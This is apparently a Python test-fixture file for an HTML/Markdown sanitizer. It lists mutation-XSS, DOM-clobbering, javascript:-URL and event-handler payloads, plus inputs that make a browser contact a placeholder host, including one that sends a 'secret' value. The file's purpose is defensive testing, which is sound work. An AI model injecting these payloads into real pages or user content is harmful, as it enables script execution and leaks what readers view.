"""Foreign text that means harm: DOMPurify's own vectors, those of later years, and ways to have something loaded.

`ELSEWHERE` stands for an address that nothing may ask.
"""

from __future__ import annotations

from setup.vectors import vectors

ELSEWHERE = "https://elsewhere.example"

LATER = [
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hacked=1>",
    '<svg></p><style><a id="</style><img src=1 onerror=hacked=1>">',
    '<math><mi><table><mi><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hacked=1&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=hacked=1>">',
    "<svg><desc><noscript><p title='</noscript><img src onerror=hacked=1>'>",
    '<math><annotation-xml encoding="text/html"><style></math><img src onerror=hacked=1>',
    "<svg><foreignobject><p><style><!--</style>--><img src onerror=hacked=1></svg>",
    '<select><template><style><!--</template><a rel="--></style></select><img src onerror=hacked=1>">',
    '<table><caption><svg><title><table><caption></caption></table><style><a title="</style><img src onerror=hacked=1>">',
    '<title><a href="</title><img src=x onerror=hacked=1>">',
    '<textarea><a href="</textarea><img src=x onerror=hacked=1>">',
    '<xmp><a title="</xmp><img src=x onerror=hacked=1>"></xmp>',
    '<iframe><a title="</iframe><img src=x onerror=hacked=1>">',
    '<noembed><a title="</noembed><img src=x onerror=hacked=1>">',
    '<noframes><a title="</noframes><img src=x onerror=hacked=1>">',
    "<plaintext><img src=x onerror=hacked=1>",
    '<div id=""><form id=f><input name=attributes><input name=parentNode><img src=x onerror=hacked=1></form></div>',
    "<form><input name=nodeName><input name=setAttribute onfocus=hacked=1 autofocus></form>",
    '<a id=flowglow><a id=flowglow name=words href="javascript:hacked=1">',
    "<img name=getElementById><img name=querySelector><a id=CSS><a id=CSS name=escape>",
    "<p is=x-y onclick=hacked=1>custom</p><x-y onclick=hacked=1>own</x-y>",
    '<svg><animate xlink:href=#x attributeName=href values="javascript:hacked=1"/><a id=x><text>x</text></a></svg>',
    "<svg><set attributeName=onmouseover to=hacked=1></set></svg>",
    '<svg><script href="data:text/javascript,hacked=1"/></svg>',
    '<math href="javascript:hacked=1"><maction actiontype=statusline xlink:href="javascript:hacked=1">x</maction></math>',
    "<button popovertarget=p onbeforetoggle=hacked=1>x</button><div id=p popover ontoggle=hacked=1>y</div>",
    "<dialog open onclose=hacked=1><form method=dialog><button>x</button></form></dialog>",
    "<template shadowrootmode=open><img src=x onerror=hacked=1></template>",
    "<div><template shadowrootmode=closed><style>:host{position:fixed;inset:0}</style></template></div>",
    '<a href="java\nscript:hacked=1">x</a><a href="\x01javascript:hacked=1">y</a><a href="vbscript:hacked=1">z</a>',
    '<a href="blob:https://elsewhere.example/x">x</a><a href="filesystem:x">y</a><a href="view-source:x">z</a>',
    '<meta http-equiv=refresh content="0;url=javascript:hacked=1"><meta http-equiv=set-cookie content=a=b>',
    '<object data="data:text/html,<script>parent.hacked=1</script>"></object><embed src="javascript:hacked=1">',
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.hacked=1'/>\">",
    "<script type=module>hacked=1</script><script type=importmap>{}</script><script type=speculationrules>{}</script>",
    "<body onload=hacked=1><html onclick=hacked=1><frameset onload=hacked=1>",
    "<marquee onstart=hacked=1>x</marquee><video><source onerror=hacked=1></video><audio src onerror=hacked=1>",
    "[x](javascript:hacked=1) [y](&#106;avascript:hacked=1) [z](JaVaScRiPt:hacked=1) <javascript:hacked=1>",
    "[x]: javascript:hacked=1\n\n[x] ![x][x]\n\n![p](javascript:hacked=1)",
    "![p](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImhhY2tlZD0xIi8+) ![q](data:text/html,x)",
    '```html" onclick=hacked=1 x="\n<img src=x onerror=hacked=1>\n```',
    "| <img src=x onerror=hacked=1> | [x](javascript:hacked=1) |\n|--|--|\n| ![p](x) | <b onclick=hacked=1>x</b> |",
    "$\\href{javascript:hacked=1}{x}$ $$\\unicode{<img src=x onerror=hacked=1>}$$",
]
"""In our own words, what became known since: by namespaces, by text that is parsed twice, by clobbering, by new elements."""

LOADING = [
    f"<img src={ELSEWHERE}/1.png alt=p><img srcset='{ELSEWHERE}/2 1x, {ELSEWHERE}/3 2x'><picture><source srcset={ELSEWHERE}/4>",
    f"<p style=\"background:url({ELSEWHERE}/5)\">x</p><style>@import '{ELSEWHERE}/6';p{{background:url({ELSEWHERE}/7)}}</style>",
    f"<svg><use href='{ELSEWHERE}/8#x'/><image href='{ELSEWHERE}/9'/><feImage href='{ELSEWHERE}/10'/></svg>",
    f"<link rel=prefetch href={ELSEWHERE}/11><link rel=preconnect href={ELSEWHERE}><link rel=dns-prefetch href={ELSEWHERE}>",
    f"<link rel=stylesheet href={ELSEWHERE}/12><link rel=preload as=image href={ELSEWHERE}/13><link rel=icon href={ELSEWHERE}/14>",
    f"<form action={ELSEWHERE}/15><input name=q value=secret><button>go</button></form><input type=image src={ELSEWHERE}/16>",
    f"<a href=https://linked.example/ ping={ELSEWHERE}/17 attributionsrc={ELSEWHERE}/18>x</a>",
    f"<video src={ELSEWHERE}/19 poster={ELSEWHERE}/20 autoplay></video><audio src={ELSEWHERE}/21 autoplay></audio>",
    f"<iframe src={ELSEWHERE}/22></iframe><object data={ELSEWHERE}/23></object><embed src={ELSEWHERE}/24>",
    f"<body background={ELSEWHERE}/25><table background={ELSEWHERE}/26><tr><td background={ELSEWHERE}/27>x</table>",
    f"<meta http-equiv=refresh content=0;url={ELSEWHERE}/28><base href={ELSEWHERE}/29/><img src=30>",
    f"<track src={ELSEWHERE}/31><bgsound src={ELSEWHERE}/32><isindex action={ELSEWHERE}/33>",
    f"![p]({ELSEWHERE}/34.png) [![p]({ELSEWHERE}/35.png)]({ELSEWHERE}/36) ![r][r]\n\n[r]: {ELSEWHERE}/37.png",
    "![p](//elsewhere.example/38) ![p](/39?secret) ![p](HTTPS://elsewhere.example/40 'x')",
    "<img src=//elsewhere.example/41><img src=\\\\elsewhere.example\\42><img src=/43?secret><img src=44?secret>",
]
"""Each would have the browser ask somebody, and so tell who reads what, if it were taken as it is."""

ALL = [*vectors(), *LATER, *LOADING]
